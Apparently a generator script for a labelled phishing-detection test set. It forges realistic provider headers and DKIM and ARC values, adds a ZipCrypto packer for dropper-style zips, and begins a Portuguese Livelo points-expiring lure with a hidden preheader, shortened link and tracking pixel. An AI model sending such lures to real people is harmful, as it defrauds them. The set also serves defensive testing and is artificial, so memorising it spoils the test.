"""Blind set 17: what landed in a handful of published personal spam-trap mailboxes, 2022-2025.

A hobbyist published a few of his family's and his own old personal addresses as spam traps and
let them collect mail for three years: Gmail, Outlook.com/Hotmail and Yahoo in English, UOL/BOL
and Terra in Brazilian Portuguese, Orange and Free in French. This set rebuilds 75 of the stored
messages as the receiving provider kept them (its own Received hops, Authentication-Results,
Gmail ARC / Outlook.com transport headers, Yahoo X-Apparently-To...).

Attacks (50, all consumer mass phishing of 2022-2025):
  * loyalty points expiring (Livelo, Smiles, Esfera, Dotz, LATAM Pass through an abused SendGrid
    account);
  * e-commerce prizes, fake orders and Pix refunds (Magalu, Americanas via Amazon SES, Shein sent
    from a compromised Microsoft 365 tenant, Amazon "order" with a callback PDF);
  * bank and card lures (Bradesco, Itau HTML attachment, Caixa FGTS, Santander callback,
    Nubank through an open redirect, Chase from a compromised school mailbox, Wells Fargo PDF,
    Bank of America Zelle on Google Slides, Banco Central "valores a receber");
  * Receita Federal CPF, Detran fine with a Pix QR code, Serasa "nome negativado";
  * delivery fees (Correios, USPS, DHL and Colissimo in French);
  * streaming (Netflix EN/FR, Spotify), Microsoft/Hotmail deactivation, Outlook quishing,
    Yahoo verification on Google Forms, Orange and Free mailbox/billing lures, Apple iCloud/Apple ID;
  * Instagram copyright, crypto giveaway, MetaMask SVG attachment, sextortion EN/PT spoofed from
    the victim's own address, Costco survey, Norton callback invoice, inheritance EN/FR, romance;
  * genuine platforms abused (Google Calendar invitation, PayPal invoice with a phone number),
    a compromised relative's mailbox asking for a Pix, and two malware droppers (NF-e zip with a
    VBScript, password-protected "comprovante" zip with an executable).

Legitimate (25): the same brands done right (Netflix, Spotify, Amazon, Magalu, Mercado Livre,
Americanas, Nubank, Itau, Livelo, Smiles, Correios, Microsoft, Apple, Google, Chase, Banco Inter,
Orange, Free), a parish newsletter, a school notice, friends' photos, a forwarded chain letter
from an aunt and a brother sharing a Pix key for a family gift.
"""

from __future__ import annotations

import base64
import email
import hashlib
import struct
import sys
import zlib
from datetime import datetime, timedelta
from email import policy
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

sys.path.insert(0, str(Path(__file__).resolve().parent))
import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind17_manifest.txt"

UTC = ZoneInfo("UTC")
SP = ZoneInfo("America/Sao_Paulo")
PT = ZoneInfo("America/Los_Angeles")
NY = ZoneInfo("America/New_York")
PARIS = ZoneInfo("Europe/Paris")
LAGOS = ZoneInfo("Africa/Lagos")

R_GM1 = "renata.azevedo.sp@gmail.com"
R_GM2 = "tkbrennan.home@gmail.com"
R_HOT = "marcos_lima1978@hotmail.com"
R_OUT = "jwhitfield82@outlook.com"
R_YH = "debbie.kowalski61@yahoo.com"
R_UOL = "claudia.mfonseca@uol.com.br"
R_BOL = "zeca.ribeiro@bol.com.br"
R_TER = "luizhpires@terra.com.br"
R_ORA = "m.lefebvre56@orange.fr"
R_FREE = "jprouxel@free.fr"

RESULTS: list[tuple[str, str, str]] = []


# --------------------------------------------------------------------------- deterministic bits

def hx(seed: str, n: int = 16) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def b64s(seed: str, n: int = 40) -> str:
    raw = b""
    i = 0
    while len(raw) * 4 // 3 < n + 4:
        raw += hashlib.sha512(f"{seed}#{i}".encode()).digest()
        i += 1
    return base64.b64encode(raw).decode()[:n]


def alnum(seed: str, n: int = 12, upper: bool = False) -> str:
    s = "".join(c for c in base64.b64encode(bytes.fromhex(hx(seed, n * 4))).decode() if c.isalnum())[:n]
    return s.upper() if upper else s


def letters(seed: str, n: int) -> str:
    return "".join(chr(65 + int(hx(seed + str(i), 4), 16) % 26) for i in range(n))


def num(seed: str, lo: int, hi: int) -> int:
    return int(hx(seed, 12), 16) % (hi - lo + 1) + lo


def uuid(seed: str, upper: bool = False) -> str:
    h = hx(seed, 32)
    u = f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"
    return u.upper() if upper else u


def when(y, mo, d, hh, mi, ss, tz=UTC) -> datetime:
    return datetime(y, mo, d, hh, mi, ss, tzinfo=tz)


def fmt(dt: datetime, tz=UTC, comment: bool = False) -> str:
    local = dt.astimezone(tz)
    s = format_datetime(local)
    if comment:
        s += f" ({local.tzname()})"
    return s


def ts(dt: datetime) -> int:
    return int(dt.timestamp())


# --------------------------------------------------------------------------- header encoding

def enc(s: str, charset: str = "utf-8", mode: str = "B") -> str:
    """RFC 2047 encoded words when needed, split on character boundaries, folded."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    words, chunk = [], ""
    for ch in s:
        if len((chunk + ch).encode(charset)) > 42:
            words.append(chunk)
            chunk = ""
        chunk += ch
    if chunk:
        words.append(chunk)
    out = []
    tag = "UTF-8" if charset == "utf-8" else charset.upper() if charset.startswith("iso") else charset
    for w in words:
        if mode == "B":
            out.append(f"=?{tag}?B?{base64.b64encode(w.encode(charset)).decode()}?=")
        else:
            q = ""
            for b in w.encode(charset):
                c = chr(b)
                if c == " ":
                    q += "_"
                elif b < 128 and (c.isalnum() or c in "!*+-/"):
                    q += c
                else:
                    q += f"={b:02X}"
            out.append(f"=?{tag}?Q?{q}?=")
    return "\n ".join(out)


def addr(display: str, address: str, charset: str = "utf-8", mode: str = "B", quote: bool = True) -> str:
    if not display:
        return address
    e = enc(display, charset, mode)
    if e == display:
        if quote and any(c in display for c in ",.()@:;[]\"'"):
            e = '"' + display.replace('"', '') + '"'
    return f"{e} <{address}>"


# --------------------------------------------------------------------------- ids and boundaries

def mid_gmail(seed):
    return f"<CA{alnum(seed + 'g1', 2)}{b64s(seed + 'g', 40).replace('/', '_').replace('+', '-')}@mail.gmail.com>"


def mid_outlook(seed, host=None):
    host = host or f"{alnum(seed + 'h', 4, True)}P{num(seed, 100, 299)}MB{num(seed + 'x', 1000, 9999)}"
    region = "BRAP" if "CP" in host[:2] else "NAMP"
    return f"<{host}{alnum(seed + 'm', 12, True)}{num(seed + 'y', 10, 99)}@{host}.{region}{host[4:7]}.PROD.OUTLOOK.COM>"


def mid_ses(seed, dt, region="us-east-1"):
    return f"<{'0100' if region == 'us-east-1' else '0101'}{format(ts(dt) * 1000, 'x')}-{uuid(seed)}-000000@email.amazonses.com>"


def mid_hex(seed, domain, n=32):
    return f"<{hx(seed, n)}@{domain}>"


def bnd(style, seed):
    if style == "gmail":
        return "000000000000" + hx(seed + "b", 16)
    if style == "outlook":
        return f"_000_{alnum(seed + 'o', 36, True)}_"
    if style == "apple":
        return f"Apple-Mail={uuid(seed, True)}"
    if style == "php":
        return f"b1_{alnum(seed + 'p', 43)}"
    if style == "tb":
        return "------------" + alnum(seed + "t", 24)
    if style == "yahoo":
        return f"----=_Part_{num(seed, 100000, 9999999)}_{num(seed + 'q', 100000000, 2000000000)}.{ts(when(2024,1,1,0,0,0)) * 1000 + num(seed, 0, 999)}"
    return f"----=_NextPart_{hx(seed + 'n', 3)}_{hx(seed + 'n2', 4)}_{hx(seed + 'n3', 8)}.{hx(seed + 'n4', 8)}".upper()


def dkim_sig(d, s, seed, dt, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", extra=""):
    b = b64s(seed + d + "sig", 344)
    lines = [b[i:i + 70] for i in range(0, len(b), 70)]
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n"
            f"\ts={s}; t={ts(dt)};{extra}\n\th={h};\n\tbh={b64s(seed + d + 'bh', 43)}=;\n\tb=" + "\n\t ".join(lines))


# --------------------------------------------------------------------------- receiving side

def _spf_gmail(res, mf, ip):
    return {
        "pass": f"(google.com: domain of {mf} designates {ip} as permitted sender)",
        "softfail": f"(google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "fail": f"(google.com: domain of {mf} does not designate {ip} as permitted sender)",
        "none": f"(google.com: {mf.split('@')[-1]} does not designate permitted sender hosts)",
        "neutral": f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
    }[res]


def receive(prov, seed, env):
    rcpt, mf, ip, helo, t = env["rcpt"], env["mf"], env["ip"], env["helo"], env["t"]
    rdns = env.get("rdns")
    spf = env["spf"]
    dkim = env["dkim"]
    dmarc = env["dmarc"]
    fdom = env["fdom"]
    mfdom = mf.split("@")[-1] if mf else helo
    t1 = t + timedelta(seconds=1)
    t2 = t + timedelta(seconds=num(seed + "t2", 1, 3))
    lines = []
    if prov == "gmail":
        ar = []
        for d, s, res in dkim:
            r = "pass" if res == "pass" else "neutral (body hash did not verify)"
            ar.append(f"dkim={r} header.i=@{d} header.s={s} header.b={b64s(seed + d, 8)}")
        ar.append(f"spf={spf} {_spf_gmail(spf, mf, ip)} smtp.mailfrom={mf}")
        if dmarc:
            res, p = dmarc
            dis = "NONE" if res == "pass" or p == "NONE" else ("QUARANTINE" if p in ("REJECT", "QUARANTINE") else "NONE")
            ar.append(f"dmarc={res} (p={p} sp={p} dis={dis}) header.from={fdom}")
        arj = ";\n       ".join(ar)
        smtpid = f"{alnum(seed + 'sid', 12)}{num(seed, 10, 99)}.{num(seed + 'z', 100, 999)}.{ts(t)}"
        lines += [
            f"Delivered-To: {rcpt}",
            f"Received: by 2002:a05:{hx(seed + 'r1', 4)}:{hx(seed + 'r2', 3)}:b0:{hx(seed + 'r3', 3)}:{hx(seed + 'r4', 4)}:{hx(seed + 'r5', 4)} with SMTP id {alnum(seed + 'sx', 6)};\n        {fmt(t2, PT, True)}",
            f"X-Google-Smtp-Source: AGHT+I{b64s(seed + 'gss', 74)}",
            f"X-Received: by 2002:a17:90a:{hx(seed + 'x1', 4)}:b0:{hx(seed + 'x2', 3)}:{hx(seed + 'x3', 4)}:{hx(seed + 'x4', 4)} with SMTP id {alnum(seed + 'xs', 12)}-{num(seed, 1000, 9999)}{alnum(seed + 'xt', 6)}.{num(seed + 'n', 10, 99)}.{ts(t2)}{num(seed + 'ms', 100, 999)};\n        {fmt(t2, PT, True)}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={ts(t1)}; cv=none;\n        d=google.com; s=arc-20240605;\n        b={b64s(seed + 'as', 70)}\n         {b64s(seed + 'as2', 70)}\n         {b64s(seed + 'as3', 60)}==",
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n        bh={b64s(seed + 'abh', 43)}=;\n        fh={b64s(seed + 'afh', 43)}=;\n        b={b64s(seed + 'ab', 70)}\n         {b64s(seed + 'ab2', 70)}\n         {b64s(seed + 'ab3', 60)}==",
            f"ARC-Authentication-Results: i=1; mx.google.com;\n       {arj}",
            f"Return-Path: <{mf}>",
            f"Received: from {rdns or helo} ({rdns or helo}. [{ip}])\n        by mx.google.com with ESMTPS id {smtpid}\n        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {fmt(t1, PT, True)}",
            f"Received-SPF: {spf} {_spf_gmail(spf, mf, ip)} client-ip={ip};",
            f"Authentication-Results: mx.google.com;\n       {arj}",
        ]
    elif prov == "outlook":
        host = f"{letters(seed + 'oh', 2)}{num(seed, 0, 9)}PR{num(seed + 'a', 10, 19)}MB{num(seed + 'b', 1000, 9999)}"
        eop = f"{letters(seed + 'eh', 2)}{num(seed + 'e', 1, 9)}PEPF0000{num(seed + 'c', 1000, 9999)}{alnum(seed + 'ei', 1, True)}"
        eopfe = f"{letters(seed + 'fh', 2)}{num(seed + 'f', 1, 9)}PR{num(seed + 'd', 10, 99)}CA{num(seed + 'g', 1000, 9999)}"
        nam = f"namprd{num(seed + 'np', 10, 19)}"
        v6 = lambda k: f"2603:10b6:{hx(seed + k, 3)}:{hx(seed + k + '2', 2)}::{hx(seed + k + '3', 2)}"
        spfw = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "none": "None", "neutral": "Neutral"}[spf]
        spft = {
            "pass": f"domain of {mfdom} designates {ip} as permitted sender",
            "fail": f"domain of {mfdom} does not designate {ip} as permitted sender",
            "softfail": f"domain of transitioning {mfdom} discourages use of {ip} as permitted sender",
            "none": f"{mfdom} does not designate permitted sender hosts",
            "neutral": f"{ip} is neither permitted nor denied by domain of {mfdom}",
        }[spf]
        dk = "dkim=none (message not signed) header.d=none"
        for d, s, res in dkim:
            if d == fdom or d.endswith("." + fdom) or fdom.endswith("." + d) or len(dkim) == 1:
                dk = f"dkim={res} ({'signature was verified' if res == 'pass' else 'body hash did not verify'}) header.d={d}"
        if dmarc is None:
            dm = f"dmarc=none action=none header.from={fdom}"
            good = spf == "pass" or any(r == "pass" for _, _, r in dkim)
            ca = "softpass reason=201" if good else "none reason=405"
        else:
            res, p = dmarc
            if res == "pass":
                dm, ca = f"dmarc=pass action=none header.from={fdom}", "pass reason=100"
            else:
                act = {"REJECT": "oreject", "QUARANTINE": "quarantine", "NONE": "none"}[p]
                dm = f"dmarc=fail action={act} header.from={fdom}"
                ca = "fail reason=000" if p != "NONE" else "fail reason=001"
        lines += [
            f"Received: from {host}.{nam}.prod.outlook.com ({v6('a')}) by\n {host}.{nam}.prod.outlook.com with HTTPS; {fmt(t2)}",
            f"Received: from {eopfe}.{nam}.prod.outlook.com ({v6('b')}) by\n {host}.{nam}.prod.outlook.com ({v6('a')}) with Microsoft SMTP Server\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{num(seed + 'v1', 7000, 8999)}.{num(seed + 'v2', 10, 40)}; {fmt(t2)}",
            f"Received: from {eop}.{nam}.prod.outlook.com\n ({v6('c')}) by {eopfe}.outlook.office365.com\n ({v6('b')}) with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id 15.20.{num(seed + 'v1', 7000, 8999)}.{num(seed + 'v2', 10, 40)} via Frontend Transport; {fmt(t1)}",
            f"Authentication-Results: spf={spf} (sender IP is {ip})\n smtp.mailfrom={mfdom}; {dk};{dm};compauth={ca}",
            f"Received-SPF: {spfw} (protection.outlook.com: {spft})\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};{' pr=C' if spf == 'pass' else ''}",
            f"Received: from {helo} ({ip}) by\n {eop}.mail.protection.outlook.com (10.167.{num(seed + 'i1', 16, 250)}.{num(seed + 'i2', 2, 250)}) with Microsoft SMTP Server\n (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.{num(seed + 'v1', 7000, 8999)}.{num(seed + 'v2', 10, 40)}\n via Frontend Transport; {fmt(t)}",
            f"X-IncomingTopHeaderMarker:\n OriginalChecksum:{hx(seed + 'ck', 64).upper()};UpperCasedChecksum:{hx(seed + 'uck', 64).upper()};SizeAsReceived:{num(seed + 'sz', 2100, 9800)};Count:{num(seed + 'cnt', 14, 42)}",
            f"X-MS-Exchange-Organization-ExpirationStartTime: {t.astimezone(UTC).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0 (UTC)",
            f"X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
            f"X-MS-Exchange-Organization-Network-Message-Id:\n {uuid(seed + 'nmi')}",
            "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
            "X-MS-Exchange-Organization-AuthSource:\n " + f"{eop}.{nam}.prod.outlook.com",
            "X-MS-Exchange-Organization-AuthAs: Anonymous",
            f"Return-Path: {mf}" if mf else "Return-Path: <>",
        ]
    elif prov == "yahoo":
        atlas = f"atlas{num(seed + 'at', 100, 330)}.free.mail.{['ne1', 'bf1', 'gq1'][num(seed, 0, 2)]}.yahoo.com"
        inner = f"10.{num(seed + 'y1', 192, 223)}.{num(seed + 'y2', 1, 254)}.{num(seed + 'y3', 1, 254)}"
        ar = []
        for d, s, res in dkim:
            ar.append(f" dkim={'pass' if res == 'pass' else 'perm_fail'} header.i=@{d} header.s={s};")
        if not dkim:
            ar.append(" dkim=unknown;")
        ar.append(f" spf={spf} smtp.mailfrom={mfdom};")
        if dmarc:
            ar.append(f" dmarc={dmarc[0]}(p={dmarc[1]}) header.from={fdom};")
        else:
            ar.append(f" dmarc=unknown header.from={fdom};")
        spft = {"pass": f"pass (domain of {mfdom} designates {ip} as permitted sender)",
                "softfail": f"softfail (domain of transitioning {mfdom} does not designate {ip} as permitted sender)",
                "fail": f"fail (domain of {mfdom} does not designate {ip} as permitted sender)",
                "none": f"none (domain of {mfdom} does not designate permitted sender hosts)",
                "neutral": f"neutral (domain of {mfdom} is neither permitted nor denied)"}[spf]
        lines += [
            f"Received: from {inner}\n by {atlas} pod-id {atlas} with HTTP; {fmt(t2)}",
            f"Return-Path: <{mf}>",
            f"Received: from {ip} (EHLO {helo})\n by {inner} with SMTPs\n (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256);\n {fmt(t1)}",
            f"X-Originating-Ip: [{ip}]",
            f"Received-SPF: {spft}",
            f"Authentication-Results: {atlas};\n" + "\n".join(ar),
            f"X-Apparently-To: {rcpt}; {fmt(t2)}",
        ]
    else:
        if prov == "uol":
            mx = f"mx-{num(seed + 'mx', 1, 9)}.uol.com.br"
            inner = f"mail-uol-{num(seed + 'in', 10, 60)}.host.intranet"
            tz, mxip = SP, f"200.147.{num(seed + 'u', 32, 47)}.{num(seed + 'u2', 2, 250)}"
        elif prov == "terra":
            mx = f"mx{num(seed + 'mx', 1, 4)}.terra.com.br"
            inner = f"mfs{num(seed + 'in', 10, 40)}.mail.terra.com.br"
            tz, mxip = SP, f"208.84.{num(seed + 'u', 242, 245)}.{num(seed + 'u2', 2, 250)}"
        elif prov == "orange":
            mx = f"mwinf5d{num(seed + 'mx', 10, 70)}.me-wanadoo.net"
            inner = f"opmta1mto{num(seed + 'in', 10, 30):02d}nd1"
            tz, mxip = PARIS, f"80.12.{num(seed + 'u', 240, 250)}.{num(seed + 'u2', 2, 250)}"
        else:
            mx = f"mx{num(seed + 'mx', 1, 2)}-{['a', 'b', 'c', 'e'][num(seed, 0, 3)]}.free.fr"
            inner = f"mfs{num(seed + 'in', 100, 299)}.free.fr"
            tz, mxip = PARIS, f"212.27.{num(seed + 'u', 42, 48)}.{num(seed + 'u2', 2, 250)}"
        arhost = {"uol": "mx.uol.com.br", "terra": "mx.terra.com.br", "orange": "orange.fr", "free": mx}[prov]
        ar = []
        for d, s, res in dkim:
            ar.append(f"dkim={'pass' if res == 'pass' else 'fail (signature verification failed)'} (2048-bit key) header.d={d} header.i=@{d} header.b=\"{b64s(seed + d, 8)}\"")
        if not dkim:
            ar.append("dkim=none")
        ar.append(f"spf={spf} smtp.mailfrom={mf or helo}")
        if dmarc:
            ar.append(f"dmarc={dmarc[0]} (p={dmarc[1].lower()} dis={'none' if dmarc[0] == 'pass' or dmarc[1] == 'NONE' else dmarc[1].lower()}) header.from={fdom}")
        else:
            ar.append(f"dmarc=none header.from={fdom}")
        qid = alnum(seed + "qid", 11, True)
        if prov == "orange":
            lines += [
                f"Return-Path: <{mf}>",
                f"Received: from {mx} ([{mxip}])\n\tby {inner} with LMTP\n\tid {alnum(seed + 'lm', 22)}\n\t(envelope-from <{mf}>)\n\tfor <{rcpt}>; {fmt(t2, tz)}",
                f"Authentication-Results: {arhost};\n\t" + ";\n\t".join(ar),
                f"Received: from {helo} ([{ip}])\n\tby {mx} with ME\n\tid {alnum(seed + 'me', 18)}; {fmt(t1, tz)}",
                f"X-ME-Helo: {helo}",
                f"X-ME-IP: {ip}",
            ]
        else:
            dl = [f"Delivered-To: {rcpt}"] if prov == "free" else []
            lines += [f"Return-Path: <{mf}>"] + dl + [
                f"Received: from {mx} ({mx} [{mxip}])\n\tby {inner} (Postfix) with ESMTP id {alnum(seed + 'q2', 10, True)}\n\tfor <{rcpt}>; {fmt(t2, tz, True)}",
                f"Authentication-Results: {arhost};\n\t" + ";\n\t".join(ar),
                f"Received-SPF: {spf.capitalize()} (mailfrom) identity=mailfrom; client-ip={ip}; helo={helo}; envelope-from={mf}; receiver=<UNKNOWN>",
                f"Received: from {rdns or helo} ({rdns or 'unknown'} [{ip}])\n\tby {mx} (Postfix) with ESMTPS id {qid}\n\tfor <{rcpt}>; {fmt(t1, tz, True)}",
            ]
    return lines


def mail(name, cat, desc, *, prov, rcpt, t, frm, subj, body, mf, ip, helo, rdns=None, spf="pass",
         dkim=(), dmarc=None, to=None, mid=None, tz=UTC, lag=3, hops=(), extra=(), pre=(), reply_to=None,
         cc=None, subj_charset="utf-8", subj_mode="B", order=None, date=None, dkim_h=None, subj_raw=None):
    """Assemble and register one stored message."""
    seed = name
    sent = t - timedelta(seconds=lag)
    fdom = frm.split("<")[-1].rstrip(">").split("@")[-1].lower()
    env = dict(rcpt=rcpt, mf=mf, ip=ip, helo=helo, rdns=rdns, t=t, spf=spf, dkim=list(dkim), dmarc=dmarc, fdom=fdom)
    head = receive(prov, seed, env)
    head += list(hops)
    for d, s, _ in dkim:
        head.append(dkim_sig(d, s, seed, sent, h=dkim_h or "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"))
    head += list(pre)
    std = {
        "From": f"From: {frm}",
        "To": f"To: {to or rcpt}",
        "Cc": f"Cc: {cc}" if cc else None,
        "Reply-To": f"Reply-To: {reply_to}" if reply_to else None,
        "Subject": "Subject: " + (subj_raw if subj_raw is not None else enc(subj, subj_charset, subj_mode)),
        "Date": f"Date: {date or fmt(sent, tz)}",
        "Message-ID": f"Message-ID: {mid}" if mid else None,
    }
    for k in order or ["From", "To", "Cc", "Reply-To", "Subject", "Date", "Message-ID"]:
        if std.get(k):
            head.append(std[k])
    head += list(extra)
    raw = message("\n".join(head), body)
    kind = "phish" if cat in ("phishing", "malware") else ("legit" if cat == "clean" else "bulk")
    fname = f"b17-{kind}-{name}.eml"
    cat = REFILED.get(fname[:-4], cat)
    path = MAIL / cat / fname
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(raw)
    RESULTS.append((f"samples/mail/{cat}/{fname}", cat, desc))


# --------------------------------------------------------------------------- body helpers

def alt(plain, html, b, enc_="quoted-printable", charset="utf-8"):
    return Multi("alternative", b, [text(plain, "plain", enc_, charset), text(html, "html", enc_, charset)])


def html_only(html, enc_="quoted-printable", charset="utf-8"):
    return text(html, "html", enc_, charset)


def pixel(url):
    return f'<img src="{url}" width="1" height="1" border="0" style="display:block;width:1px;height:1px" alt="">'


def zw(s, seed="z"):
    marks = ["\u200b", "\u200c", "\u200d", "\u2060"]
    out = ""
    for i, ch in enumerate(s):
        out += ch
        if ch != " " and i % 2 == 0:
            out += marks[num(seed + str(i), 0, 3)]
    return out


def hidden(txt):
    return f'<div style="display:none;max-height:0;overflow:hidden;font-size:1px;line-height:1px;color:#ffffff;opacity:0">{txt}</div>'


def html_doc(inner, title="", lang="pt-BR", style=""):
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{title}</title>\n{style}</head>\n'
            f'<body style="margin:0;padding:0;background:#f2f2f2">\n{inner}\n</body>\n</html>\n')


def button(url, label, bg="#0b5fff", fg="#ffffff"):
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" align="center"><tr>'
            f'<td bgcolor="{bg}" style="border-radius:6px;padding:14px 34px">'
            f'<a href="{url}" target="_blank" style="color:{fg};font-family:Arial,Helvetica,sans-serif;font-size:16px;'
            f'font-weight:bold;text-decoration:none;display:inline-block">{label}</a></td></tr></table>')


def card(inner, width=600):
    return (f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f2f2"><tr><td align="center" style="padding:24px 8px">\n'
            f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" '
            f'style="max-width:{width}px;font-family:Arial,Helvetica,sans-serif;font-size:15px;color:#333333;line-height:22px">\n'
            f'{inner}\n</table>\n</td></tr></table>')


def row(html, pad="20px 32px", extra=""):
    return f'<tr><td style="padding:{pad};{extra}">{html}</td></tr>'


def rx_postfix(helo_from, ip, by, t, qid_seed, rcpt, tz=UTC, esmtp="ESMTPSA", auth=None):
    a = f"\n\t(Authenticated sender: {auth})" if auth else ""
    return (f"Received: from {helo_from} ([{ip}])\n\tby {by} (Postfix) with {esmtp} id {alnum(qid_seed, 10, True)}{a}\n"
            f"\tfor <{rcpt}>; {fmt(t, tz, True)}")


def rx_local(by, t, qid_seed, tz=UTC, user="www-data", uid=33):
    return f"Received: by {by} (Postfix, from userid {uid})\n\tid {alnum(qid_seed, 10, True)}; {fmt(t, tz, True)}"


def rx_exim(helo_from, ip, by, t, seed, tz=UTC, auth=None):
    a = f"\n\t(Exim 4.96.2)\n\t(envelope-from <{auth}>)" if auth else "\n\t(Exim 4.96.2)"
    return (f"Received: from [{ip}] (port={num(seed + 'port', 49000, 65000)} helo={helo_from})\n\tby {by} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384{a}\n"
            f"\tid 1r{alnum(seed + 'ex', 4)}-{alnum(seed + 'ex2', 6)}-{alnum(seed + 'ex3', 2)};\n\t{fmt(t, tz)}")


# --------------------------------------------------------------------------- attachments

_CRC = [0] * 256
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRC[_i] = _c


def zip_crypto(name: str, data: bytes, password: bytes, seed: str, when_=(2024, 11, 5, 14, 22, 10)) -> bytes:
    """A one-member zip encrypted with traditional PKWARE (ZipCrypto), as 'senha: 1234' droppers ship."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def upd(b):
        keys[0] = (keys[0] >> 8) ^ _CRC[(keys[0] ^ b) & 0xFF]
        keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
        keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = (keys[2] >> 8) ^ _CRC[(keys[2] ^ (keys[1] >> 24)) & 0xFF]

    def stream():
        t = (keys[2] | 2) & 0xFFFF
        return ((t * (t ^ 1)) >> 8) & 0xFF

    for b in password:
        upd(b)
    crc = zlib.crc32(data) & 0xFFFFFFFF
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = co.compress(data) + co.flush()
    plain = bytes.fromhex(hx(seed + "zc", 22)) + bytes([crc >> 24]) + comp
    out = bytearray()
    for b in plain:
        out.append(b ^ stream())
        upd(b)
    y, mo, d, hh, mi, ss = when_
    dtime, ddate = (hh << 11) | (mi << 5) | (ss // 2), ((y - 1980) << 9) | (mo << 5) | d
    fn = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, dtime, ddate, crc, len(out), len(data), len(fn), 0) + fn
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 8, dtime, ddate, crc, len(out), len(data),
                          len(fn), 0, 0, 0, 0, 0x20, 0) + fn
    body = local + bytes(out)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + eocd


def att(ctype, name, data, inline=False, cid=None, enc_name=False):
    a = attachment(ctype, name, data, inline, cid)
    return a


# =========================================================================== attacks

def attacks():
    # 1 ---------------------------------------------------------------- Livelo, compromised cPanel host
    n = "livelo-pontos-expiram-cpanel"
    t = when(2023, 3, 14, 13, 7, 42)
    link = "https://bit.ly/3Lv9pQx"
    html = html_doc(hidden("Cliente Livelo, seus pontos acumulados vencem hoje. Troque por produtos, passagens e cashback.") + card(
        row(f'<a href="{link}"><img src="https://i.postimg.cc/8zK4cQ1m/livelo-topo.png" width="536" alt="Livelo" style="display:block;border:0;width:100%"></a>', "0")
        + row('<p style="font-size:20px;color:#e6007e"><b>Seus 18.450 pontos vencem HOJE!</b></p>'
              '<p>Olá, cliente Livelo.</p><p>Identificamos que o saldo de <b>18.450 pontos</b> da sua conta está programado para expirar em '
              '<b>14/03/2023</b>. Após essa data os pontos não poderão ser recuperados.</p>'
              '<p>Aproveite e troque agora por Smart TV, celulares, eletroportáteis e muito mais no nosso catálogo exclusivo.</p>')
        + row(button(link, "RESGATAR MEUS PONTOS", "#e6007e"), "8px 32px 28px")
        + row('<p style="font-size:11px;color:#999">Livelo S.A. - Av. das Nações Unidas, 12.901 - São Paulo/SP. Este é um e-mail automático, não responda.</p>'
              + pixel("https://grupoandradeeventos.com.br/wp-content/uploads/px.php?u=claudia.mfonseca"), "8px 32px"))
        , "Livelo")
    plain = ("Seus 18.450 pontos vencem HOJE!\n\nOlá, cliente Livelo.\nIdentificamos que o saldo de 18.450 pontos da sua conta "
             "está programado para expirar em 14/03/2023.\n\nRESGATAR MEUS PONTOS: " + link + "\n")
    mail(n, "phishing", "Livelo points-expiring lure sent from a compromised cPanel site mailbox (SPF/DKIM pass for the hacked domain), single image plus button through a bit.ly shortener, hidden preheader and tracking pixel.",
         prov="uol", rcpt=R_UOL, t=t, tz=SP,
         frm=addr("Livelo", "contato@grupoandradeeventos.com.br"), subj="Seus 18.450 pontos Livelo expiram hoje - resgate agora",
         body=alt(plain, html, bnd("php", n)), mf="contato@grupoandradeeventos.com.br", ip="177.53.143.29",
         helo="cp-br12.hospedaria.net.br", rdns="cp-br12.hospedaria.net.br",
         dkim=[("grupoandradeeventos.com.br", "default", "pass")],
         hops=[rx_exim("[10.8.0.14]", "45.155.205.87", "cp-br12.hospedaria.net.br", t - timedelta(seconds=2), n, SP, "contato@grupoandradeeventos.com.br")],
